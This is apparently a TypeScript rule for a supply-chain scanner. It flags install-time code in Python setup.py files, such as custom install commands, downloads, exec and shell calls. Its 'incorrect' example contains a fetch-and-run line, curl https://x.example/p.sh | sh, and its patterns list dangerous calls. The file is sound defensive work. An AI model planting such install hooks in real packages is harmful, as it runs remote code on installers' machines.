import { defineTextRule, type TextRuleContext } from '../../engine/rule';
import type { Severity } from '../../model/finding';
import { clip } from '../support/supply-names';

const COMMANDS = 'install|develop|egg_info|build_py|build_ext|build|sdist|bdist_wheel|bdist_egg|easy_install';
const CMDCLASS_ENTRY = new RegExp(`["'](${COMMANDS})["']\\s*:|\\b(${COMMANDS})\\s*=`);
const COMMAND_CLASS = new RegExp(`^\\s*class\\s+(\\w+)\\s*\\(\\s*[\\w.]*?\\b_?(${COMMANDS})\\b`);

interface Action {
  pattern: RegExp;
  what: string;
  severity: Severity;
}

const ACTIONS: Action[] = [
  {
    pattern:
      /\b(urllib\d?\.request\.urlopen|urlopen|urlretrieve|requests\.(get|post|put|request)|httpx\.(get|post)|http\.client\.HTTPS?Connection|socket\.socket|ftplib\.FTP)\s*\(/,
    what: 'downloads or connects over the network',
    severity: 'high',
  },
  { pattern: /\b(exec|eval)\s*\(/, what: 'runs a string as Python code', severity: 'high' },
  { pattern: /\b(__import__|importlib\.import_module)\s*\(\s*[^'"\s)]/, what: 'imports a module named at run time', severity: 'high' },
  {
    pattern: /\b(base64\.b64decode|codecs\.decode|zlib\.decompress|marshal\.loads)\s*\(/,
    what: 'decodes a hidden payload',
    severity: 'high',
  },
  {
    pattern: /\b(subprocess\.(run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|os\.(system|popen|exec\w*|spawn\w*))\s*\(/,
    what: 'runs a command',
    severity: 'high',
  },
];

/** `exec(open("pkg/version.py").read())` and `git describe`: the usual harmless uses in setup.py. */
function isRoutine(line: string, action: Action): boolean {
  if (action.what.startsWith('runs a string')) {
    return /\bexec\s*\(\s*(open|read|io\.open|Path)\b.*version/i.test(line) || /__version__|version\.py|_version/.test(line);
  }
  if (action.what === 'runs a command') {
    return /["'[]\s*git["'\s,]/.test(line);
  }
  return false;
}

function codeOf(line: string): string {
  const trimmed = line.trimStart();
  return trimmed.startsWith('#') ? '' : line;
}

function reportLine(ctx: TextRuleContext, n: number, messageId: string, data: Record<string, string>, severity: Severity): void {
  const start = ctx.lines.lineStart(n);
  ctx.report({ start, end: start + ctx.lines.lineText(n).length, messageId, data, severity });
}

export default defineTextRule({
  meta: {
    id: 'text/setup-py-hook',
    category: 'supply-chain',
    severity: 'high',
    summary:
      'setup.py code that runs at install time: overridden install/develop/egg_info commands, and commands, downloads or `exec` in setup.py.',
    why:
      'Installing a Python package from source runs its setup.py with the installer’s rights. A custom install command or a ' +
      'download in setup.py is the classic way malicious packages act the moment someone runs `pip install`.',
    incorrect: [
      {
        filename: 'setup.py',
        code: "from setuptools import setup\nfrom hooks import PostInstall\nsetup(name='x', cmdclass={'install': PostInstall})\n",
      },
      { filename: 'setup.py', code: "import os\nos.system('curl https://x.example/p.sh | sh')\nsetup(name='x')\n" },
    ],
    correct: [
      {
        filename: 'setup.py',
        code: "from setuptools import setup\nexec(open('pkg/version.py').read())\nsetup(name='x', version=__version__)\n",
      },
      { filename: 'tools/build.py', code: "import os\nos.system('make')\n" },
    ],
    messages: {
      cmdclass: 'setup.py overrides the `{{command}}` command: `{{code}}`. Custom code runs whenever the package is installed.',
      commandClass: 'setup.py subclasses the `{{command}}` command (`{{name}}`): custom code that runs at install time.',
      action: 'setup.py {{what}} at install time: `{{code}}`.',
    },
  },
  check(ctx) {
    if (!/(^|\/)setup\.py$/.test(ctx.path)) {
      return;
    }
    let inCmdclass = false;
    let registered = false;
    const classes: { n: number; name: string; command: string }[] = [];
    for (let n = 1; n <= ctx.lines.lineCount; n++) {
      const line = codeOf(ctx.lines.lineText(n));
      if (line.length > 2000 || line.trim() === '') {
        continue;
      }
      if (/\bcmdclass\b/.test(line)) {
        inCmdclass = true;
      }
      const entry = inCmdclass ? CMDCLASS_ENTRY.exec(line) : null;
      if (entry) {
        registered = true;
        reportLine(ctx, n, 'cmdclass', { command: entry[1] ?? entry[2], code: clip(line, 120) }, 'high');
      }
      if (inCmdclass && /[})]\s*,?\s*$/.test(line) && !/\{\s*$/.test(line)) {
        inCmdclass = false;
      }
      const cls = COMMAND_CLASS.exec(line);
      if (cls) {
        classes.push({ n, name: cls[1], command: cls[2] });
      }
      const action = ACTIONS.find((a) => a.pattern.test(line));
      if (action && !isRoutine(line, action)) {
        reportLine(ctx, n, 'action', { what: action.what, code: clip(line, 120) }, action.severity);
      }
    }
    if (!registered) {
      for (const c of classes) {
        reportLine(ctx, c.n, 'commandClass', { command: c.command, name: c.name }, 'high');
      }
    }
  },
});
